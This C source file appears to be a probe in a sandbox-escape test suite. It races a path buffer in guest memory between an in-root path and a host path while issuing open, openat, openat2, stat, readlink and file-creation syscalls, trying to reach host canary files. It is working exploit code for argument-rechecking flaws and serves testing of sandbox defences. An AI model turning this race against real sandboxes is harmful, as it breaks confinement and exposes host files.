// Class 3: arguments re-read from guest memory after the check. A thread flips the first byte of
// a path buffer between '\0' (the empty path, which a sandbox may wave through untranslated) and
// '/' (then the buffer holds the plain host path of a canary file or of a new host file); another
// variant flips between an in-root path and the host path of the same length. The kernel must
// never act on a value the sandbox did not check.
#include <linux/openat2.h>
#include <sys/inotify.h>

#include "probe.h"

static char buf[PATH_MAX];
static char alt_a[PATH_MAX], alt_b[PATH_MAX];
static volatile int stop, mode;

static void* flipper(void* arg) {
  (void)arg;
  while (!stop) {
    if (mode == 0) {
      __atomic_store_n(&buf[0], '\0', __ATOMIC_RELAXED);
      __atomic_store_n(&buf[0], '/', __ATOMIC_RELAXED);
    } else {
      memcpy(buf, alt_a, sizeof buf);
      memcpy(buf, alt_b, sizeof buf);
    }
  }
  return NULL;
}

static void set_target(const char* host_path, int m) {
  mode = m;
  snprintf(buf, sizeof buf, "%s", host_path);
  snprintf(alt_b, sizeof alt_b, "%s", host_path);
  // Same length, in the rootfs: /tmp/aaaa...
  size_t n = strlen(host_path);
  memset(alt_a, 0, sizeof alt_a);
  memcpy(alt_a, "/tmp/", 5);
  for (size_t i = 5; i < n; ++i) alt_a[i] = 'a';
}

static long hits;

static void check_read(const char* what, int fd) {
  if (fd < 0) return;
  char b[256];
  ssize_t n = read(fd, b, sizeof b);
  if (n > 0 && strncmp(b, "guest", 5) != 0) {
    ++hits;
    p_loot(what, b, (size_t)n);
  }
  close(fd);
}

int main(void) {
  p_start();
  mkdir("/tmp", 01777);
  char* secret = p_strf("%s/host/secret.txt", T());
  char* newfile = p_strf("%s/host/ocib-esc-%s-flip", T(), nonce());
  char* lnk = p_strf("%s/host/canary.lnk", T());
  // The in-root twin of the flip target holds "guest".
  int fd = open(p_strf("/tmp/%.*s", (int)(strlen(secret) - 5),
                       "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
                       "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"),
                O_CREAT | O_WRONLY, 0644);
  if (fd >= 0) {
    ssize_t w = write(fd, "guest\n", 6);
    (void)w;
    close(fd);
  }
  pthread_t t;
  for (int m = 0; m < 2; ++m) {
    long tries = 0;
    set_target(secret, m);
    stop = 0;
    pthread_create(&t, NULL, flipper, NULL);
    double end = now_s() + 1.2;
    struct open_how how;
    memset(&how, 0, sizeof how);
    how.flags = O_RDONLY;
    while (now_s() < end && hits < 3) {
      ++tries;
      check_read("flip open", (int)syscall(SYS_open, buf, O_RDONLY));
      check_read("flip openat", (int)syscall(SYS_openat, AT_FDCWD, buf, O_RDONLY));
      check_read("flip openat2", (int)syscall(SYS_openat2, AT_FDCWD, buf, &how, sizeof how));
      struct stat st;
      if (syscall(SYS_newfstatat, AT_FDCWD, buf, &st, AT_EMPTY_PATH) == 0 && S_ISREG(st.st_mode) &&
          st.st_size > 6) {
        ++hits;
        p_escape("flip newfstatat: a %lld-byte regular file", (long long)st.st_size);
      }
    }
    stop = 1;
    pthread_join(t, NULL);
    p_attemptf(hits ? 0 : -1, "flip mode %d reads: %ld tries, %ld hits", m, tries, hits);

    set_target(lnk, m);
    stop = 0;
    pthread_create(&t, NULL, flipper, NULL);
    end = now_s() + 0.6;
    tries = 0;
    while (now_s() < end) {
      ++tries;
      char l[256];
      long n = syscall(SYS_readlink, buf, l, sizeof l);
      if (n > 0) {
        ++hits;
        p_loot("flip readlink", l, (size_t)n);
        break;
      }
    }
    stop = 1;
    pthread_join(t, NULL);
    p_attemptf(-1, "flip mode %d readlink: %ld tries", m, tries);

    set_target(newfile, m);
    stop = 0;
    pthread_create(&t, NULL, flipper, NULL);
    end = now_s() + 0.8;
    tries = 0;
    int in = inotify_init1(0);
    while (now_s() < end) {
      ++tries;
      int f = (int)syscall(SYS_open, buf, O_CREAT | O_WRONLY | O_NONBLOCK, 0644);
      if (f >= 0) close(f);
      syscall(SYS_mkdir, buf, 0755);
      syscall(SYS_mknodat, AT_FDCWD, buf, S_IFIFO | 0644, 0);
      syscall(SYS_symlink, "x", buf);
      syscall(SYS_inotify_add_watch, in, buf, IN_ALL_EVENTS);
    }
    stop = 1;
    pthread_join(t, NULL);
    p_attemptf(-1, "flip mode %d creates: %ld tries", m, tries);
  }
  p_end();
}
